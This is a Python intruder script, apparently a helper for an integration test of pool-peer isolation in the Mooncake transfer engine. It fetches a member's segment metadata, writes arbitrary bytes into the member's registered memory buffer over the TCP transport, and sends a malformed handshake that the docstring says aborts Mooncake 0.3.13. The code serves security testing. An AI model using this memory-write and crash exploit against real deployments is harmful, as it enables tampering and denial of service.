"""A process that is not a pool member reaching a member's transfer-engine ports, for
tests/integration/test_pool_peers.py. Standard library only, so any account's Python can
run it as a file.

``python3 pool_intruder.py SOURCE_ADDRESS PAYLOAD_HEX [ACTIONS] < DESCRIPTION`` reads the
member's segment description from stdin (``{"ram", "rpc_meta"}``: what the metadata server
holds for its segment under ``mooncake/ram/`` and ``mooncake/rpc_meta/``, which anyone who
reaches that server can read; :func:`description` fetches it), then from ``SOURCE_ADDRESS``
does the ``ACTIONS`` (comma-separated, default both):

1. ``write``: writes ``PAYLOAD_HEX``'s bytes over the start of the member's first
   registered buffer through its data port, speaking Mooncake's TCP transport (a 24-byte
   header: size, address, opcode WRITE with the protocol-2 flag; then the bytes; a
   protocol-2 server answers an 8-byte status frame once they are applied);
2. ``handshake``: sends one malformed message to its handshake port (Mooncake 0.3.13
   aborts the process on it).

It prints one JSON line: ``{"address"}`` (where it wrote), ``"write"`` (``"applied"``: the
server acknowledged the bytes; ``"closed"``: the connection was closed first;
``"refused"``: no connection), and ``"handshake"`` (``"sent"``, ``"closed"`` or
``"refused"``), each for the actions done.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import urllib.parse
import urllib.request

WRITE_V2 = 1 | 0x80
"""TransferRequest::WRITE with the protocol-2 flag (the server acknowledges)."""
STATUS_OK = 0x4D435456 << 32
"""A protocol-2 status frame saying the request was applied ("MCTV", 0)."""


def description(url: str, segment: str) -> dict[str, object]:
    """What the metadata server at ``url`` holds for ``segment`` (the intruder's input)."""
    found: dict[str, object] = {}
    for kind in ("ram", "rpc_meta"):
        key = urllib.parse.quote(f"mooncake/{kind}/{segment}", safe="")
        with urllib.request.urlopen(f"{url}?key={key}", timeout=10) as answer:
            found[kind] = json.loads(answer.read())
    return found


def send(host: str, port: int, source: str, message: bytes, reply: int) -> bytes | str:
    """Send ``message`` from ``source`` and read up to ``reply`` bytes back: those bytes,
    or ``"refused"`` (no connection) or ``"closed"`` (closed before anything came back)."""
    try:
        sock = socket.create_connection((host, port), timeout=10, source_address=(source, 0))
    except OSError:
        return "refused"
    with sock:
        sock.settimeout(10)
        try:
            sock.sendall(message)
            answer = sock.recv(reply)
        except OSError:
            return "closed"
    return answer or "closed"


def write(host: str, port: int, source: str, address: int, payload: bytes) -> str:
    header = struct.pack("<QQB7x", len(payload), address, WRITE_V2)
    frame = send(host, port, source, header + payload, 8)
    if isinstance(frame, str):
        return frame
    return "applied" if len(frame) == 8 and struct.unpack("<Q", frame)[0] == STATUS_OK else "closed"


def handshake(host: str, port: int, source: str) -> str:
    answer = send(host, port, source, struct.pack("<Q", 2) + b"[]", 64)
    return answer if isinstance(answer, str) else "sent"


def main(argv: list[str]) -> int:
    source, payload, *rest = argv
    actions = (rest[0] if rest else "write,handshake").split(",")
    described = json.load(sys.stdin)
    ram, rpc = described["ram"], described["rpc_meta"]
    buffers = ram["buffers"]
    assert isinstance(buffers, list) and buffers, ram
    address = int(buffers[0]["addr"])
    answer: dict[str, object] = {"address": address}
    if "write" in actions:
        host, port = str(ram["tcp_data_host"]), int(str(ram["tcp_data_port"]))
        answer["write"] = write(host, port, source, address, bytes.fromhex(payload))
    if "handshake" in actions:
        host, port = str(rpc["ip_or_host_name"]), int(str(rpc["rpc_port"]))
        answer["handshake"] = handshake(host, port, source)
    print(json.dumps(answer), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
